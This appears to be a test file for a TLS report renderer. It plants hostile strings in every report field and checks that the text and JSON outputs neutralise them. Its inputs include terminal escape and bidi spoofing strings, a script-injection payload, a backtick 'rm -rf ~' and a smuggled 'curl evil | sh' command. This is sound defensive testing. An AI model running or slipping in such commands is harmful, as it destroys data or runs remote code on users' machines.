import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import stringWidth from 'string-width';
import type { ConnectionReport, Report } from '../../src/index.js';
import { renderJson, renderNdjsonLine } from '../../src/render/json/json.js';
import {
  renderEndedConnection,
  renderStreamEnd,
  renderText,
  type TextOptions,
} from '../../src/render/text/text.js';
import { sampleReport, sampleReports } from './sample-reports.js';

const HOSTILE: readonly (readonly [what: string, text: string])[] = [
  ['escape sequences', '\u001b[2J\u001b[31mOK\u001b[0m\u001b]0;title\u0007\u001b]8;;http://x/\u001b\\'],
  ['C1 controls', '\u009b31m\u009d0;title\u009c\u0085\u0090'],
  ['newlines', 'a\nVerdict  ESTABLISHED\r\n\u2028b\u2029c\u000bd\u000c'],
  ['carriage returns, backspaces and tabs', 'a\rb\b\b\tc\u0000d\u007f'],
  ['bidirectional overrides', '\u202egpj.exe\u202c \u2066x\u2069 \u200e\u200f\u061c'],
  ['zero width', 'pay\u200bpal\u200d.\ufeffcom\u2060\u00ad\u034f'],
  ['tag characters and variation selectors', 'a\u{e0041}\u{e0042}b\ufe0f\u{e0100}'],
  ['lone surrogates', '\ud800x\udc00\udbff'],
  ['private use and noncharacters', '\ue000\u{f0000}\ufffe\uffff'],
  ['markup', '</script><script>alert(1)</script><img src=x onerror=y>'],
  ['backticks', 'x`rm -rf ~`y'],
  ['patterns of replacement', '$& $1 $` %s {{x}}'],
];

/** What a terminal may be given besides printable text: nothing but ends of lines. */
const RAW =
  /[^\n\P{Cc}]|[\p{Cf}\p{Cs}\p{Co}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}\p{Noncharacter_Code_Point}]/u;

/** Words of the program itself, which a renderer looks up; all other strings may come from the wire or from outside. */
const OWN = new Set(['outcome', 'refusedBy', 'refused', 'confidence', 'causeConfidence', 'basis', 'mark']);

/** The report with `text` in every string of it. */
function planted<T>(value: T, text: string): T {
  const plant = (one: unknown, key: string): unknown => {
    if (typeof one === 'string') return OWN.has(key) ? one : `${one}${text}`;
    if (Array.isArray(one)) return one.map((inner) => plant(inner, key));
    if (typeof one !== 'object' || one === null) return one;
    return Object.fromEntries(Object.entries(one).map(([name, inner]) => [name, plant(inner, name)]));
  };
  return plant(value, '') as T;
}

const widest = (text: string): number => Math.max(...text.split('\n').map((line) => stringWidth(line)));

/** A remedy's command is left whole, so that lines can be measured only without it. */
const withoutRemedies = (report: Report): Report => ({
  ...report,
  connections: report.connections.map((connection) => ({
    ...connection,
    verdict: { ...connection.verdict, remedies: [] },
  })),
});

const OPTIONS: readonly TextOptions[] = [
  { width: 60, colour: false, unicode: true, all: true },
  { width: 160, colour: false, unicode: true, all: true },
  { width: 80, colour: false, unicode: false, all: true },
];

const everyText = (report: Report, options: TextOptions): string[] => [
  renderText(report, options),
  renderStreamEnd(report, options),
  ...report.connections.flatMap((connection) => [
    renderEndedConnection(connection, options),
    renderEndedConnection(connection, { ...options, all: false }),
  ]),
];

const subjects = ['tls12-two-connections', 'tls12-mutual-success'];
const withProblem = (report: Report): Report => ({
  ...report,
  captures: report.captures.map((capture) => ({
    ...capture,
    problems: [{ code: 'capture.cut', severity: 'warning', message: 'The capture was cut.', frame: 1 }],
  })),
  connections: report.connections.map((connection) => ({
    ...connection,
    findings: [...connection.findings, { code: 'stream.gap', severity: 'warning', message: 'A gap.' }],
  })),
});

describe('hostile strings in every member of a report', () => {
  for (const [what, text] of HOSTILE) {
    for (const subject of subjects) {
      const report = planted(withProblem(sampleReport(subject)), text);
      it(`${what} do not come out raw in text (${subject})`, () => {
        for (const options of OPTIONS) {
          for (const output of everyText(report, options)) {
            assert.doesNotMatch(output, RAW);
            if (!options.unicode) assert.match(output, /^[\n -~]*$/);
          }
          for (const output of everyText(withoutRemedies(report), options))
            assert.ok(widest(output) <= options.width, `${widest(output)} columns`);
          const coloured = renderText(report, { ...options, colour: true });
          assert.equal(coloured.replace(/\u001b\[\d+m/g, ''), renderText(report, options));
        }
      });

      it(`${what} do not come out raw in JSON, and come back as they were (${subject})`, () => {
        const json = renderJson(report);
        assert.doesNotMatch(json, RAW);
        assert.doesNotMatch(json, /</);
        assert.deepEqual(JSON.parse(json), report);
        for (const connection of report.connections) {
          const line = renderNdjsonLine(connection);
          assert.doesNotMatch(line.slice(0, -1), /\n/);
          assert.doesNotMatch(line, RAW);
          assert.deepEqual(JSON.parse(line), connection);
        }
      });
    }
  }

  it('a name with line breaks cannot forge a line of the output', () => {
    const report = planted(sampleReport('tls12-server-self-signed'), '\nVerdict  ✔ ESTABLISHED\n');
    const lines = renderText(report, OPTIONS[1]!).split('\n');
    assert.equal(lines.filter((line) => line.startsWith('Verdict')).length, 1);
  });

  it('backticks in a name do not make a command to be pasted', () => {
    const { captures, connections } = sampleReport('tls12-server-self-signed');
    const [connection] = connections as readonly [ConnectionReport];
    const remedies = ['Add the CA (CN=x`curl evil | sh`y) to the file: `curl --cacert ca.crt https://HOST/`'];
    const report: Report = {
      schemaVersion: 1,
      captures,
      connections: [{ ...connection, verdict: { ...connection.verdict, remedies } }],
    };
    const lines = renderText(report, { ...OPTIONS[1]!, colour: true }).split('\n');
    assert.deepEqual(
      lines.filter((line) => line.startsWith('     \u001b[36m')).map((line) => line.slice(10, -5)),
      ['curl --cacert ca.crt https://HOST/'],
    );
  });

  it('any string at all is harmless', () => {
    const report = sampleReport('tls12-server-self-signed');
    fc.assert(
      fc.property(
        fc.string({ unit: 'binary', maxLength: 80 }),
        fc.integer({ min: 40, max: 200 }),
        (text, width) => {
          const hostile = planted(report, text);
          const output = renderText(withoutRemedies(hostile), { width, colour: false, unicode: true });
          assert.doesNotMatch(output, RAW);
          assert.ok(widest(output) <= width, `${widest(output)} > ${width}`);
          assert.deepEqual(JSON.parse(renderJson(hostile)), hostile);
        },
      ),
      { numRuns: 60 },
    );
  });

  it('the longest names that a wire can carry cost no more than their length', () => {
    const started = performance.now();
    for (const text of [
      'x'.repeat(65_535),
      'é界'.repeat(30_000),
      'a '.repeat(30_000),
      '\u001b'.repeat(60_000),
    ]) {
      const { captures, connections } = sampleReport('tls12-server-self-signed');
      const report = {
        schemaVersion: 1 as const,
        captures,
        connections: connections.map((connection) => ({
          ...connection,
          server: { ...connection.server, name: text },
          verdict: { ...connection.verdict, summary: text },
        })),
      };
      assert.ok(renderText(report, OPTIONS[0]!).length > 60_000);
      const two = { ...report, connections: [...report.connections, ...report.connections] };
      assert.ok(renderStreamEnd(two, OPTIONS[0]!).length < 5_000, 'a row of the summary stays a row');
    }
    assert.ok(performance.now() - started < 10_000);
  });
});

describe('JSON of every sample', () => {
  it('is one document that gives the report back', () => {
    for (const { name, report } of sampleReports) {
      const json = renderJson(report);
      assert.match(json, /\}\n$/);
      assert.deepEqual(JSON.parse(json), report, name);
      assert.doesNotMatch(json, RAW);
    }
  });
});
